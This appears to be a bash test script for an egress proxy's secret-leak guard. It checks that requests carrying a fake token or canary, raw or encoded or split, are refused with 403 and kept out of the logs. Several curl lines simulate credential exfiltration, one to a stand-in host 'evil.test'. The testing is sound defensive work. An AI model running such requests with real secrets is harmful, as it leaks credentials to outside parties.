#!/bin/bash
# The secret guard: the real value of a secret from the replacements file, or a canary, in a
# request's URL, a header or its body (raw, URL-encoded, base64, hex; split across pieces) is
# refused 403 before any of it reaches the upstream, whatever the host; the answer and the log
# name the entry, never the value. Upstream: a recorder of every byte it receives.
. "$(dirname "$0")/lib.sh"
t_enter_netns "$@"
HERE=$(cd "$(dirname "$0")" && pwd)

REAL="ghp_REALVALUE0123456789abcdefREALVALUE"
SURR="ghp_SurrogateSurrogateSurrogate000001"
CANARY="CANARY-7f3a9c-do-not-send"
cat > "$T_DIR/allow.yaml" <<'YAML'
domains: ["rec.test"]
YAML
cat > "$T_DIR/repl.json" <<JSON
{
  "$SURR": {"value": "$REAL", "scopes": ["rec.test"], "headers": ["Authorization"]},
  "short-surrogate-01": {"value": "short1", "scopes": ["rec.test"], "headers": ["X-Short"]},
  "canaries": [{"name": "ssh-marker", "value": "$CANARY"}]
}
JSON
ip addr add 127.0.0.3/8 dev lo 2>/dev/null || true
mkdir -p "$T_DIR/rec"
"$PY" "$HERE/leak_peers.py" recorder 127.0.0.3 80 "$T_DIR/rec" > /dev/null 2>&1 &
T_PIDS+=($!)
t_wait_port 127.0.0.3 80 || exit 1
t_start_resolver --address=/rec.test/127.0.0.3
t_start_airlock "$T_DIR/allow.yaml" --replacements "$T_DIR/repl.json" \
    --allow-upstream-cidr 127.0.0.3/32 || exit 1

t_contains "a value under 8 bytes is named on stderr, not scanned for" \
    "$(cat "$T_DIR/airlock.err")" "shorter than 8 bytes"
grep -qF short1 "$T_DIR/airlock.err"
t_check "... without its value" test $? -ne 0

received() { cat "$T_DIR"/rec/conn-*.bin 2>/dev/null; }
nrec() { ls "$T_DIR"/rec | wc -l; }
b64() { printf '%s' "$1" | base64 -w0; }
hex() { printf '%s' "$1" | od -An -tx1 | tr -d ' \n'; }

# control: a request without a secret goes through, body and all (1 MiB, held-back tail included)
head -c 1048576 /dev/urandom | base64 -w0 | head -c 1048576 > "$T_DIR/big.txt"
out=$(curl -sS -m 20 --data-binary @"$T_DIR/big.txt" http://rec.test/upload 2>&1)
t_eq "control: a 1 MiB body without a secret arrives whole" "ok 1048576" "$out"

# the body is scanned by sampling in large pieces: a value deep inside 1 MiB is still found
{ head -c 700001 "$T_DIR/big.txt"; printf '%s' "$(b64 "xx$REAL")"; tail -c 300000 "$T_DIR/big.txt"; } \
    > "$T_DIR/big-leak.txt"
out=$(curl -s -m 20 -w ' %{http_code}' --data-binary @"$T_DIR/big-leak.txt" http://rec.test/upload)
t_contains "the value base64 at 700 KB of a 1 MB body: 403" "$out" " 403"
t_contains "... where body, encoding base64" "$out" '"encoding": "base64", "where": "body"'

n0=$(nrec)
out=$(curl -s -m 5 -w ' %{http_code}' "http://rec.test/q?token=$REAL")
t_contains "the value raw in the query: 403" "$out" " 403"
t_contains "... blocked_secret_leak, where url" "$out" '"where": "url"'
t_wait_log '^BLOCKED GET http://rec\.test/\.\.\. -> 403 (leak: secret entry\[0\]\.value, raw, in url)$'
t_check "... logged with the host only, naming the entry" test $? -eq 0

out=$(curl -s -m 5 -w ' %{http_code}' -H "X-Debug: $(b64 "$REAL")" http://rec.test/h)
t_contains "the value base64 in a header: 403" "$out" " 403"
t_contains "... names the header" "$out" '"header": "X-Debug"'
t_contains "... and the encoding" "$out" '"encoding": "base64"'

out=$(curl -s -m 5 -w ' %{http_code}' "http://rec.test/u?t=$(printf '%s' "$REAL" | sed 's/_/%5F/')")
t_contains "the value URL-encoded in the query: 403" "$out" " 403"

h=$(hex "$REAL")
out=$(timeout 20 "$PY" "$HERE/leak_peers.py" post 127.0.0.1 80 rec.test /body \
    "prefix-$(head -c 3000 /dev/zero | tr '\0' a)-${h:0:30}" "${h:30}-suffix")
t_contains "the value hex in a body, split across two pieces 0.3 s apart: 403" "$out" "403 "
t_contains "... where body" "$out" '"where": "body"'
t_wait_log "(leak: secret entry\\[0\\]\\.value, hex, in body; the upstream request was aborted)$"
t_check "... the upstream request was aborted, and the log says so" test $? -eq 0
received | grep -qF "$h"
t_check "... the upstream never received the whole value" test $? -ne 0
received | grep -qF "${h:0:30}"
t_check "... nor its first half (held back until the second piece)" test $? -ne 0

out=$(curl -s -m 5 -w ' %{http_code}' -H 'Transfer-Encoding: chunked' --data-binary "notes: $CANARY" http://rec.test/c)
t_contains "a canary in a chunked body: 403" "$out" " 403"
t_wait_log '^BLOCKED POST http://rec\.test/c -> 403 (leak: canary ssh-marker, raw, in body[;)]'
t_check "... the log names the canary" test $? -eq 0

out=$(curl -s -m 5 -w ' %{http_code}' "http://evil.test/x?k=$REAL")
t_contains "a host the allowlist does not name: refused for the leak first" "$out" '"error": "blocked_secret_leak"'

for v in "$REAL" "$CANARY" "$h" "$(b64 "$REAL")"; do
    if grep -qF -- "$v" "$T_DIR/net.log" "$T_DIR/airlock.err"; then t_fail "a value reached the log or stderr"; fi
done
t_ok "no value (raw, hex, base64) in the network log or on stderr"
received | grep -qF "$REAL"
t_check "the upstream never received the raw value" test $? -ne 0
received | grep -qF "$CANARY"
t_check "... nor the canary" test $? -ne 0

# SIGHUP: a canary added by a reload is guarded at once
sed -i "s|\"canaries\": \[|\"canaries\": [{\"name\": \"new-one\", \"value\": \"fresh-canary-42-xyz\"}, |" "$T_DIR/repl.json"
t_reload
out=$(curl -s -m 5 -w ' %{http_code}' "http://rec.test/r?v=fresh-canary-42-xyz")
t_contains "a canary added by SIGHUP is refused" "$out" '"name": "new-one"'
kill -0 "$AIRLOCK_PID" 2>/dev/null
t_check "airlock alive" test $? -eq 0
t_stop_airlock
t_eq "SIGTERM: exit 0" "0" "$?"
t_done
